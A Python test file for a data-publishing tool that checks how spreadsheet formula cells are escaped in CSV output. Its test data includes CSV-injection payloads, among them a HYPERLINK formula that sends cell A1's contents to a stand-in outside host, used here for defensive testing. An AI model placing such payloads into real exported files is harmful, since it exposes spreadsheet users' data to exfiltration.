"""Cells that a spreadsheet would compute: escaped on demand, in CSV alone, and nothing else is changed."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet
import pytest

from parties.alone.publish.rules import Rule, path
from parties.alone.publish.writing import escaped
from parties.cli import run
from smc.errors import InputError

LINK = '=HYPERLINK("http://192.0.2.1/?"&A1;"more")'
PLAN = """
source = "rows.csv"
[columns.note]
role = "other"
[columns.age]
role = "quasi-identifier"
[[models]]
model = "k-anonymity"
k = 2
"""


@pytest.mark.parametrize(
    "cell",
    [
        LINK,
        "+1+cmd",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\r=x",
        "\n=x",
        "=",
        "-",
        "+-1",
        "\uff1d1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20A",
    ],
)
def test_what_is_taken_for_a_formula(cell: str) -> None:
    assert escaped(pa.chunked_array([[cell]])).to_pylist() == ["'" + cell]


@pytest.mark.parametrize("cell", ["x=1", "", "-5", "+1.5", "-.5e-3", "1-2", " =1", None])
def test_what_is_none(cell: str | None) -> None:
    assert escaped(pa.chunked_array([pa.array([cell], pa.string())])).to_pylist() == [cell]


def test_numbers_and_dictionaries() -> None:
    assert escaped(pa.chunked_array([[-1, 2]])).to_pylist() == [-1, 2]
    assert escaped(pa.chunked_array([pa.array(["=1", "a", "=1"]).dictionary_encode()])).to_pylist() == [
        "'=1",
        "a",
        "'=1",
    ]


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    with Path("rows.csv").open("w", newline="") as stream:
        csv.writer(stream).writerows([["age", "note"], *2 * [["5", LINK], ["5", "-7"], ["5", "plain"]]])
    Path("plan.toml").write_text(PLAN)
    return tmp_path


@pytest.mark.parametrize("command", ["anonymise", "mask"])
def test_published_rows(here: Path, command: str) -> None:
    del here
    for flags, cell in (([], LINK), (["--escape-formulas"], "'" + LINK)):
        assert run(["publish", command, "--plan", "plan.toml", "--out", "out.csv", *flags]) == 0
        with Path("out.csv").open(newline="") as stream:
            assert sorted(row["note"] for row in csv.DictReader(stream)) == sorted(2 * [cell, "-7", "plain"])
        assert run(["publish", command, "--plan", "plan.toml", "--out", "out.parquet", *flags]) == 0
        assert LINK in pyarrow.parquet.read_table("out.parquet")["note"].to_pylist()
        Path("out.parquet").unlink()
        Path("out.csv").unlink()


def test_published_tables(here: Path) -> None:
    Path("rows.csv").write_text('kind,"=1+1"\n' + "=x,a\n" * 5 + "y,b\n" * 5)
    flags = ["--by", "kind", "--across", "=1+1", "--out"]
    assert run(["publish", "table", "--data", "rows.csv", *flags, "plain.csv"]) == 0
    assert run(["publish", "table", "--data", "rows.csv", *flags, "escaped.csv", "--escape-formulas"]) == 0
    assert "\n=x," in Path("plain.csv").read_text()
    assert "\n'=x," in Path("escaped.csv").read_text()
    del here


@pytest.mark.parametrize("value", ["1.7e308", "-1.7e308", "1e17"])
def test_numbers_too_large_for_ranges(value: str) -> None:
    with pytest.raises(InputError, match=f"column 'x': '{value}' is too large for ranges of 0.5"):
        path("x", Rule(ranges=(0.5, 1.0)), value)
    assert path("x", Rule(ranges=(0.5, 1.0)), "1e15")[1] == "[1e+15, 1e+15["
